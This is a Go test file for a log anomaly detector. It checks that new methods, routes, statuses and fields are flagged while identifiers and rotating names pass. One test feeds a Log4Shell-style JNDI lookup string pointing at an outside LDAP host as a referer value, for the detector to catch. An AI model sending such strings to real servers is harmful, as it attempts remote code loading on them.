package detector_test

import (
	"fmt"
	"math/rand/v2"
	"strings"
	"testing"
)

// A value that a field with few values never had is news.
func TestFieldCategory(t *testing.T) {
	w := watch(t, shopLog(1), 8000)
	w.flags(changed("method", `"TRACE"`), `method "TRACE" never seen, usually GET`)
	w.flags(changed("route", `"/admin"`), `"/admin" never seen`)
	w.flags(changed("host", `"build-7"`), `host "build-7" never seen, usually shop-`)
	w.flags(`{"level":"info","msg":"session started","host":"shop-1","trace":"8d2c5f0a91b3e764","user":"u71","client":"telnet"}`, `client "telnet" never seen`)

	a := watch(t, accessLog(1), 8000)
	rng := rand.New(rand.NewPCG(9, 9))
	a.flags(access(rng, "TRACE", "/", "200", ""), `method "TRACE" never seen, usually GET`)
}

// A value that was told once is less news each time that it comes back.
func TestFieldCategoryBecomesNormal(t *testing.T) {
	w := watch(t, shopLog(2), 8000)
	rng := rand.New(rand.NewPCG(5, 5))
	flagged, last := 0, 0
	for i := range 40 {
		w.goOn(100)
		if w.see(requestWith(rng, map[string]string{"method": `"PATCH"`})).Anomaly {
			flagged, last = flagged+1, i+1
		}
	}
	if flagged < 1 || last > 10 {
		t.Errorf("a new method that comes each 100 records is flagged %d times, the last time at its %d.; once or more, and none after the 10. wanted", flagged, last)
	}
}

// What is new each time is an identifier, and one more is no news.
func TestFieldIdentifier(t *testing.T) {
	w := watch(t, shopLog(6), 8000)
	for _, trace := range []string{`"00000000000000a1"`, `"ffffffffffffffff"`, `"8d2c5f0a91b3e764"`} {
		w.passes(changed("trace", trace))
	}
	w.passes(changed("user", `"u90017"`))
}

// Where one value in ten is new, a new one is no news.
func TestFieldWhereNewIsUsual(t *testing.T) {
	rng := rand.New(rand.NewPCG(4, 4))
	n := 0
	next := func() string {
		city := fmt.Sprintf("%q", pick(rng, "Bern", "Oslo", "Riga", "Turin"))
		if rng.IntN(10) == 0 {
			n++
			city = fmt.Sprintf(`"%s"`, strings.ToUpper(letterWord(7000+n*13)))
		}
		return fmt.Sprintf(`{"msg":"parcel scanned","city":%s,"gate":%d}`, city, rng.IntN(8))
	}
	w := watch(t, next, 4000)
	if flagged := w.goOn(4000); flagged > 4 {
		t.Errorf("%d of 4,000 records are flagged, of which 400 name a city that is new: at most 4 wanted", flagged)
	}
	w.passes(`{"msg":"parcel scanned","city":"WLUGANO","gate":3}`)
}

// What comes with a newcomer is explained by it: a release brings new instances, and is
// told once or twice. Trouble that comes with it is told all the same.
func TestFieldNewcomer(t *testing.T) {
	shop, version, pods := shopLog(21), "1.4.0", []string{"shop-a1", "shop-a2", "shop-a3", "shop-a4"}
	n := 0
	with := func(line, version, pod string) string {
		return line[:len(line)-1] + fmt.Sprintf(`,"version":%q,"pod":%q}`, version, pod)
	}
	next := func() string {
		n++
		return with(shop(), version, pods[n*7%len(pods)])
	}
	w := watch(t, next, 8000)
	w.flags(with(shop(), version, "shop-b9"), `pod "shop-b9" never seen`) // alone
	version, pods = "1.5.0", []string{"shop-b1", "shop-b2", "shop-b3", "shop-b4"}
	if got := w.goOn(100); got < 1 || got > 2 {
		t.Errorf("%d of the first 100 lines of a release were flagged, 1 or 2 are right", got)
	}
	line := changed("status", "503")
	w.flags(with(line, version, "shop-b1"), "status 503 never seen")
	version, pods = "1.6.0", []string{"shop-c1", "shop-c2", "shop-c3", "shop-c4"}
	w.goOn(4)
	if v := w.judge(with(changed("status", "503"), version, "shop-c1")); !v.Anomaly {
		t.Errorf("a failure in a release that came just now is not flagged, score %.3f", v.Score)
	}
	line = changed("method", `"DELETE"`)
	if v := w.judge(with(line, version, "shop-c1")); !v.Anomaly {
		t.Errorf("what a newcomer does that was never done is not flagged, score %.3f", v.Score)
	}
}

// A value that comes again and again is told at growing intervals, however long it is away
// between: its first eight at the most, then those whose number is a square. Counts are
// halved now and then, so that it may be told once more.
func TestFieldValueThatGoesOn(t *testing.T) {
	w := watch(t, shopLog(6), 8000)
	var told []int
	for n := 1; n <= 20; n++ {
		w.goOn(4000)
		if w.see(changed("status", "500")).Anomaly {
			told = append(told, n)
		}
	}
	if len(told) == 0 || told[0] != 1 {
		t.Fatalf("of 20 answers of 500, those are told: %v", told)
	}
	if len(told) > 12 {
		t.Errorf("of 20 answers of 500, %d are told: %v", len(told), told)
	}
	if last := told[len(told)-1]; last <= 8 {
		t.Errorf("told are %v: one that goes on is not told any more", told)
	}
}

// A new page is less news than a new value of another kind: its address stands where
// another of the site did.
func TestFieldNewPage(t *testing.T) {
	rng := rand.New(rand.NewPCG(12, 4))
	record := func(referer, section string) string {
		return fmt.Sprintf(`{"msg":"page viewed","referer":%q,"section":%q,"ms":%d}`, referer, section, 20+rng.IntN(60))
	}
	page := func() string {
		return "https://shop.example.net/" + pick(rng, "chairs", "lamps", "tables", "sofas") + ".html"
	}
	section := func() string { return pick(rng, "north", "south", "east", "west") }
	w := watch(t, func() string { return record(page(), section()) }, 1000)
	w.passes(record("https://shop.example.net/stools.html", section()))
	w.flags(record(page(), "centre"), `section "centre" never seen`)
	w.flags(record("${jndi:ldap://203.0.113.9/a}", section()), "referer")
}

// TestNamesThatComeAndGo: a field whose values are replaced all the time, however seldom, is
// told for the first of them; a new value beside it, in a field of few, still is.
func TestNamesThatComeAndGo(t *testing.T) {
	rng := rand.New(rand.NewPCG(31, 31))
	pods, n := [4]string{}, 0
	record := func(zone string) string {
		if n%3000 == 0 {
			for i := range pods {
				pods[i] = fmt.Sprintf("web-%s-%s", letters(rng, 9), letters(rng, 5))
			}
		}
		n++
		return fmt.Sprintf(`{"pod":%q,"verb":%q,"zone":%q,"ms":%d}`, pods[rng.IntN(len(pods))], pick(rng, "get", "list", "watch"), zone, 5+rng.IntN(90))
	}
	w := watch(t, func() string { return record(pick(rng, "a", "b", "c")) }, 60_000)
	told := 0
	for range 60_000 {
		if v := w.see(w.next()); v.Anomaly && strings.HasPrefix(string(v.Reason), "pod") {
			told++
		}
	}
	if told > 4 {
		t.Errorf("%d of 80 names that follow 80 others are told, at most 4 wanted", told)
	}
	w.flags(record("q"), `zone "q" never seen`)
}

func letters(rng *rand.Rand, n int) string {
	b := make([]byte, n)
	for i := range b {
		b[i] = "bcdfghjklmnpqrstvwxz2456789"[rng.IntN(27)]
	}
	return string(b)
}
